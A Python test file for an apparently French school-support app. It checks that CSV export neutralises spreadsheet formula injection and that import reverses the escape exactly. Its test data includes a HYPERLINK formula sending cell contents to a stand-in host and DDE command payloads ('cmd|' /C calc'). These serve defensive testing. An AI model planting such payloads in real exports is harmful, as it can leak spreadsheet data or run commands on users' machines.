"""Formula injection (issue 8, item 8): a text cell that a spreadsheet would
run as a formula is exported after an apostrophe, and the import removes
exactly that escape, so that export → import → export stays byte-identical
for any text, an apostrophe at the start included."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agesh_tui.engine.echange.ecriture import _csv, exporter
from agesh_tui.engine.echange.format import FICHIERS, PAR_ENTITE
from agesh_tui.engine.echange.lecture import Contenu, importer, lire_fichier
from agesh_tui.engine.stockage import ouvrir
from agesh_tui.engine.texte import nettoyer
from bases import url_de
from monde import D, Monde

TODAY = date(2026, 11, 22)
PIEGES = [
    '=HYPERLINK("http://exemple.invalid/?d="&A1;"Dossier")',
    "@SUM(A1:A9)",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "=1+1",
    "'déjà une apostrophe",
    "''deux",
    "'=1+1",
    "-",
    "+33 6 12 34 56 78",
]
FORMULES = tuple("=+-@\t\r")  # tab and CR start formulas in some spreadsheets
PROCHES = next(f for f in FICHIERS if f.nom == "proches.csv")
ACCOMPAGNEMENTS = next(f for f in FICHIERS if f.nom == "accompagnements.csv")


def monde_piege() -> Monde:
    """Names, ids and free texts that open as formulas; a tab and a CR at
    the start of texts written raw (the import would have removed them)."""
    m = Monde()
    m.etablissement("0350001A", "=HYPERLINK(\"http://x\")", commune="@Rennes")
    m.secteur("=S1", "+Secteur", ["0350001A"], erseh_nom="-ERSEH", erseh_mail="@mail")
    for i, nom in enumerate(PIEGES):
        m.eleve(f"E{i}", nom, "\tTab", D(2015, 3, 2), soin="\rCR",
                scolarites=[("0350001A", D(2026, 9, 1), None, "=6A")])
        m.proche(f"E{i}", nom, "'x", "@lien", "+33 6", "=mail")
    m.eleve("=E", "NOM", "Prénom")
    m.decision("=D1", "=E", "mutualisee", None, origine="=Réexamen", nature="+cible")
    m.decision("D2", "E0", "mutualisee", None)
    m.aesh("-A1", "-DURAND", "@Anne", adresse="=1 rue", commune="+Bruz", transport="-")
    m.mission("=M1", "-A1", "HM2D", 24.0, D(2026, 9, 1), None)
    m.accompagnement("AC1", "=M1", ["=D1", "D2"], "0350001A", D(2026, 9, 1), D(2027, 7, 4), 6.0)
    return m


def lignes_csv(chemin) -> list[list[str]]:
    with chemin.open(encoding="utf-8", newline="") as f:
        return list(csv.reader(f, delimiter=";"))


def cellules_texte(dossier) -> list[str]:
    """Every cell of every exported file (header included)."""
    return [c for f in FICHIERS for ligne in lignes_csv(dossier / f.nom) for c in ligne]


def test_export_never_writes_a_cell_a_spreadsheet_would_run(stockage, tmp_path):
    monde_piege().ecrire(stockage)
    exporter(stockage, tmp_path / "out")
    cellules = cellules_texte(tmp_path / "out")
    assert cellules and not [c for c in cellules if c.startswith(FORMULES)]
    eleves = {r[0]: r for r in lignes_csv(tmp_path / "out" / "eleves.csv")}
    assert eleves["E0"][1:3] == ["'" + PIEGES[0], "Tab"]  # control characters removed
    assert eleves["E0"][5] == "CR"  # (a raw CR would have cut the record in two)
    assert eleves["E5"][1] == "''déjà une apostrophe"
    assert eleves["'=E"][1] == "NOM"
    accs = (tmp_path / "out" / "accompagnements.csv").read_text().splitlines()
    assert accs[1].split(";")[:3] == ["AC1", "'=M1", "'=D1,D2"]


def test_export_import_export_is_byte_identical_with_hostile_texts(stockage, moteur, tmp_path, request):
    monde_piege().ecrire(stockage)
    exporter(stockage, tmp_path / "a")
    autre = ouvrir(url_de(moteur, tmp_path / "autre", request))
    try:
        importer(autre, tmp_path / "a", TODAY)
        with autre.lecture() as tx:
            noms = {r[0]: r[1] for r in tx.lignes("SELECT id, nom FROM eleve")}
        assert [noms[f"E{i}"] for i in range(len(PIEGES))] == PIEGES  # stored as typed
        exporter(autre, tmp_path / "b")
    finally:
        autre.fermer()
    for fichier in FICHIERS:
        assert (tmp_path / "a" / fichier.nom).read_bytes() == (tmp_path / "b" / fichier.nom).read_bytes()


@pytest.mark.parametrize("tape, stocke", [
    ("'t Hart", "'t Hart"),  # a hand-typed apostrophe stays
    ("'=1+1", "=1+1"),  # the export's escape is removed
    ("''x", "'x"),
    ("'@SUM(A1)", "@SUM(A1)"),
    ("=1+1", "=1+1"),  # typed without escape: kept as typed (and escaped on export)
    ("'", "'"),
])
def test_import_removes_exactly_the_exports_escape(tape, stocke):
    """A file typed by hand (not through the export)."""
    brut = io.StringIO(newline="")
    csv.writer(brut, delimiter=";", lineterminator="\n").writerows([PROCHES.noms, ["E1", tape, "", "", "", ""]])
    assert lire_octets(PROCHES, brut.getvalue().encode()) == ("E1", stocke, "", "", "", "")


# -- the round trip as a property ------------------------------------------------------------

def lire(fichier, valeurs: tuple) -> tuple:
    """The row as the import reads it back from the export of it."""
    return lire_octets(fichier, _csv(fichier, [valeurs]))


def lire_octets(fichier, data: bytes) -> tuple:
    erreurs: list = []
    lus = list(lire_fichier(Contenu(fichier), io.BytesIO(data), erreurs, TODAY))
    assert erreurs == []
    assert len(lus) == 1
    return lus[0][1]


# Texts an import can store: no control character, no blank at either end.
TEXTES = st.text(max_size=40).filter(lambda t: t and nettoyer(t) == t)


@settings(max_examples=400, deadline=None)
@given(TEXTES)
def test_any_storable_text_reads_back_as_written_and_never_as_a_formula(texte):
    ecrit = _csv(PROCHES, [(texte,) * 6]).decode("utf-8")
    _, cellules = csv.reader(io.StringIO(ecrit, newline=""), delimiter=";")
    assert not any(c.startswith(FORMULES) for c in cellules)
    assert lire(PROCHES, (texte,) * 6) == (texte,) * 6


@settings(max_examples=200, deadline=None)
@given(st.lists(TEXTES.filter(lambda t: "," not in t), min_size=1, max_size=4, unique=True))
def test_decision_lists_read_back_as_written(ids):
    ligne = ("AC1", "M1", tuple(ids), "0350001A", "2026-09-01", "2027-07-04", 6.0, 0, 0, 0, 0)
    assert lire(ACCOMPAGNEMENTS, ligne) == ligne


def test_every_referencing_column_unescapes_like_the_key_it_names():
    """An id exported escaped and read back is the same id in its own file
    and in the files that reference it (else references would break)."""
    assert lire(PAR_ENTITE["eleve"], ("=E", "N", "P", None, "actif", ""))[0] == "=E"
    assert lire(PROCHES, ("=E", "N", "", "", "", ""))[0] == "=E"
